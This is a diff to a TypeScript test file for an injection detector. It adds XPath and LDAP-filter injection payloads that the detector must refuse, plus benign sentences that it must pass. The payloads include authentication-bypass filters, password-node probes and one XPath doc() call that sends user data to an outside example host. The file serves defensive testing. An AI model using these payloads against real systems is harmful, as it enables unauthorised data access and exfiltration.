@@ -37,6 +37,13 @@ const BEHIND_TEXT: Readonly<Record<string, readonly string[]>> = {
     "x'}) SET n:Admin RETURN n //",
     "x'}) FOREACH (i IN [1] | CREATE (:A)) //",
   ],
+  'XPath (CWE-643)': [
+    "x'] | //user/*[contains(*,'",
+    "x')]/parent::*/child::node()|/a[b=('",
+    'x"]/following-sibling::*',
+    "x' and not(../password) or 'a'='b",
+    "x' or ancestor::node() or 'a'='b",
+  ],
 }
 
 describe.each(Object.entries(BEHIND_TEXT))(
@@ -67,6 +74,27 @@ const WHOLE: Readonly<Record<string, readonly string[]>> = {
     "x' and role > '' ALLOW  FILTERING",
     "x'); alter keyspace a with durable_writes = false; --",
   ],
+  'XPath (CWE-643)': [
+    '257] or ends-with(name,"a")',
+    "2710 or id('a')",
+    '12]|//user',
+    '*[1]/*[2]/text()',
+    "x'(: or",
+    'for $x in collection() return $x',
+    "some $u in //user satisfies $u/pin = '1'",
+    "doc(concat('http://e.example/', //user[1]))",
+    'sum(//price)',
+    '/*/ancestor::*',
+  ],
+  'filters of directories (RFC 4515)': [
+    '|(cn=a*)',
+    '\\2a\\29\\28\\7c',
+    'x\\29\\29\\00',
+    'cn:dn:=x',
+    'mail:caseExactMatch:=x',
+    'pin:2.5.13.18:=x',
+    '(&(cn=a)(userPassword=*))',
+  ],
   'conditions of search engines (CWE-943)': [
     `x"}}]}},"query":{"match_all":{}}`,
     `x"} , { "query_string" : {"query":"*"}}`,
@@ -91,6 +119,13 @@ test.each([
   "if (this.ready) { this.start('now') }",
   'const kind: "a" | "b" = "a"; // one of them',
   'MATCH of the day: a (draw) and a return leg',
+  'parent::__construct($name); self::count($items)',
+  'string(/* the text */ value) + count(/* of them */ 3)',
+  "they don't] mind | see (the list)",
+  "email LIKE '%@example.com' AND CONTAINS(list_ids, 'ab')",
+  "5 or more (see id('a') below), 2 and name(s)",
+  "['name(' => 'a'] or text('b' => 1)",
+  'cn:dn and mail: see (the) list := later',
   'the keyspace was dropped and created again',
 ])('passes: %j', (text) => {
   expect(PLACES.filter((place) => isRefused(place, text))).toEqual([])
